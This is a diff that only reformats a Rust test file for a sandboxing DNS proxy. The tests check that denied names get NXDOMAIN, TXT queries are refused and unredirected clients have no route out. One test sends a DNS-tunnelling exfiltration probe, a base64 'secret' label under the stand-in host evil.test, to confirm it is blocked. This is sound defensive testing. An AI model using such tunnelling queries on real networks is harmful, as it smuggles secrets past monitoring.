@@ -30,7 +30,15 @@ impl Decoy {
     fn start(lab: &ProxyLab) -> Decoy {
         let out = sys::run_ok(
             "ip",
-            &["-n", &lab.fx.server, "addr", "add", &format!("{HARD_V4}/32"), "dev", "lo"],
+            &[
+                "-n",
+                &lab.fx.server,
+                "addr",
+                "add",
+                &format!("{HARD_V4}/32"),
+                "dev",
+                "lo",
+            ],
         );
         assert_eq!(out.code(), 0, "{}", out.describe());
         let log = lab.tmp.path("decoy-dns.jsonl");
@@ -73,7 +81,10 @@ fn a_denied_name_gets_nxdomain_and_is_never_asked_upstream() {
     // curl: 6 = could not resolve host.
     assert_eq!((exit, code), (6, 0), "{body} {}", out.describe());
     let (r, _) = t.py(&sb, &["resolve", "dns-denied.test"]);
-    assert!(r["error"].as_str().is_some_and(|e| e.contains("gaierror")), "{r}");
+    assert!(
+        r["error"].as_str().is_some_and(|e| e.contains("gaierror")),
+        "{r}"
+    );
     let (r, _) = t.py(&sb, &["dns", HARD_V4, "53", "dns-denied.test", "A", "udp"]);
     assert_eq!(r["rcode"], 3, "NXDOMAIN expected: {r}");
 
@@ -82,7 +93,10 @@ fn a_denied_name_gets_nxdomain_and_is_never_asked_upstream() {
     assert_eq!(t.lab.requests_to("/case/t-dns-ok").len(), 1);
 
     let q = t.lab.dns_queries();
-    assert!(q.iter().any(|n| n == "dns-ok.test"), "the proxy resolves allowed names upstream: {q:?}");
+    assert!(
+        q.iter().any(|n| n == "dns-ok.test"),
+        "the proxy resolves allowed names upstream: {q:?}"
+    );
     assert!(
         !q.iter().any(|n| n.contains("dns-denied")),
         "a denied name reached the upstream DNS server: {q:?}"
@@ -97,11 +111,21 @@ fn txt_is_refused_and_dns_over_tcp_is_answered() {
     let sb = transparent(&["allowed.test"]);
     for server in [HARD_V4, HARD_V6] {
         let (r, out) = t.py(&sb, &["dns", server, "53", "allowed.test", "TXT", "udp"]);
-        assert_eq!(r["rcode"], 5, "{server}: REFUSED expected: {r} {}", out.describe());
+        assert_eq!(
+            r["rcode"],
+            5,
+            "{server}: REFUSED expected: {r} {}",
+            out.describe()
+        );
         assert_eq!(r["answers"], serde_json::json!([]), "{r}");
         for (qtype, proto) in [("A", "tcp"), ("AAAA", "tcp"), ("TXT", "tcp")] {
             let (r, out) = t.py(&sb, &["dns", server, "53", "allowed.test", qtype, proto]);
-            assert_eq!(r["id_ok"], true, "{server} {qtype}/{proto}: {r} {}", out.describe());
+            assert_eq!(
+                r["id_ok"],
+                true,
+                "{server} {qtype}/{proto}: {r} {}",
+                out.describe()
+            );
             if qtype == "TXT" {
                 assert_eq!(r["rcode"], 5, "{r}");
                 continue;
@@ -148,7 +172,10 @@ fn a_hard_coded_resolver_is_answered_by_the_agent() {
     // Data in a query name (DNS tunnelling) to the hard-coded resolver,
     // over UDP and TCP: NXDOMAIN from the agent, nobody else sees it.
     for proto in ["udp", "tcp"] {
-        let (r, out) = t.py(&sb, &["dns", HARD_V4, "53", "c2VjcmV0.evil.test", "A", proto]);
+        let (r, out) = t.py(
+            &sb,
+            &["dns", HARD_V4, "53", "c2VjcmV0.evil.test", "A", proto],
+        );
         assert_eq!(r["rcode"], 3, "{proto}: {r} {}", out.describe());
     }
     assert_eq!(
@@ -176,10 +203,15 @@ fn without_redirection_queries_go_nowhere() {
         .find_map(|l| l.strip_prefix("nameserver").map(|a| a.trim().to_string()))
         .expect("a nameserver line in /etc/resolv.conf");
     let r = t.py_outside(&["resolve", "allowed.test"]);
-    assert!(r["error"].as_str().is_some_and(|e| e.contains("gaierror")), "{r}");
+    assert!(
+        r["error"].as_str().is_some_and(|e| e.contains("gaierror")),
+        "{r}"
+    );
     let r = t.py_outside(&["dns", &ns, "53", "allowed.test", "A", "udp"]);
     assert!(
-        r["error"].as_str().is_some_and(|e| e.contains("unreachable")),
+        r["error"]
+            .as_str()
+            .is_some_and(|e| e.contains("unreachable")),
         "the client namespace must have no route to {ns}: {r}"
     );
 
@@ -187,11 +219,17 @@ fn without_redirection_queries_go_nowhere() {
     let (r, out) = t.py(&sb, &["resolve", "allowed.test"]);
     let addrs = r["addrs"].as_array().cloned().unwrap_or_default();
     assert!(
-        !addrs.is_empty() && addrs.iter().all(|a| is_synthetic(a.as_str().unwrap_or_default())),
+        !addrs.is_empty()
+            && addrs
+                .iter()
+                .all(|a| is_synthetic(a.as_str().unwrap_or_default())),
         "{r} {}",
         out.describe()
     );
     let (r, _) = t.py(&sb, &["dns", &ns, "53", "allowed.test", "A", "udp"]);
     assert_eq!(r["source"][0], ns.as_str(), "{r}");
-    assert!(is_synthetic(r["answers"][0].as_str().unwrap_or_default()), "{r}");
+    assert!(
+        is_synthetic(r["answers"][0].as_str().unwrap_or_default()),
+        "{r}"
+    );
 }
